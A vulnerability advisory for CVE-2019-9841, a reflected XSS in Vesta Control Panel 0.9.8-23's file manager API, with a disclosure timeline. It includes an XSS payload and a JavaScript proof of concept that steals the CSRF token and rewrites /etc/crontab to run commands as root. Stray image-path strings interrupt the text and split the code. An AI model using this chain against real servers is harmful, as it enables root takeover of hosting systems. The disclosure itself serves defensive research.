[CVE-2019-9841] Vesta Control Panel 0.9.8-23 — Reflected XSS in file manager API

Andrea Cardaci — 15 April 2019

Discovered 2019-03-13
Author Andrea Cardaci
Product Vesta Control Panel
Tested versions 0.9.8-23
CVE CVE-2019-9841


The insufficient output sanitization and inappropriate content type of the responses of the file manager API allows to run arbitrary JavaScript code in the context of the web application. This allows an attacker to impersonate the users of the control panel by tricking them to follow a specially crafted link while authenticated to the web application.VestaCP users are actual system users and they have the right to manage several services on the hosting server, for example they can create and manage new databases, edit their own crontab, create and manage new mail accounts, etc. They are created by the administrator to whom VestaCP grants full access. This means that triggering the XSS from an administration session could allow an attacker to obtain root access on the hosting server.


A PHP script located at /file_manager/fm_api.php supposedly provides the API for the file managers plugins that can be installed in VestaCP. The script performs the requested operation then returns the result as a JSON string using text/html as the content type, often including an error message that reflects some of the provided arguments. By triggering an error using arguments that include a specially crafted HTTP payload it is possible to run arbitrary JavaScript code. For example:



{"result":false,"message":"Error: invalid path \/home\/admin\/<img src=x onerror=alert(1) \/>"}

Since the output is a JSON string, some characters are \-escaped. It is possible to overcome this limitation by deploying the payload as a Base64 string, for example the above is equivalent to:


This works out-of-the-boxwith Firefox and Edge, while Safari and Chrome block the script execution as they detect a possible XSS attempt. Hopefully some smarter payload will be able to bypass their XSS auditors.

PoC: from XSS to root access

VestaCP acts as a wrapper around several system-level operations, the easiest way for an administrator to run a command as root is probably to alter the /etc/crontab file via the /edit/server/cron/ page.

For example this cron job creates a file in the web server root as superuser:* * * * * root id >/usr/local/vesta/web/proof

Most of the pages in the VestaCP web application employ a CSRF token, so in order to submit the POST form, the token must be obtained by parsing the HTML.

The following JavaScript function replaces /etc/crontab and restarts the cron daemon:

(async () => {
    // fetch the CSRF token
    const request = await fetch('/', {credentials: 'include'});
    const text = await request.text();
    const token = text.match(/token="([^"]+)"/)[1];

    // prepare the payloadconst payload = 'id >/usr/local/vesta/web/proof';
    const config = encodeURIComponent(`* * * * * root ${payload}\n`);

    // replace thecron config file
    fetch('/edit/server/cron/', {
        credentials:'include',
        method: 'POST',
        headers: {
            'content-type': 'application/x-www-form-urlencoded'
        body:`token=${token}&v_config=${config}&v_restart=on&save=Save`

For completeness, this is the URL that the victim administrator needs to follow in order to trigger the PoC:


After one minute check that the proof file is created in the web server root:

$ curl -k https://target.com:8083/proof
uid=0(root) gid=0(root) groups=0(root)


Disclosed to the VestaCP team.
MITRE assigns CVE-2019-9841 to this vulnerability.
The VestaCP team fixes thevulnerability.
The VestaCPteam releases version 0.9.8-24.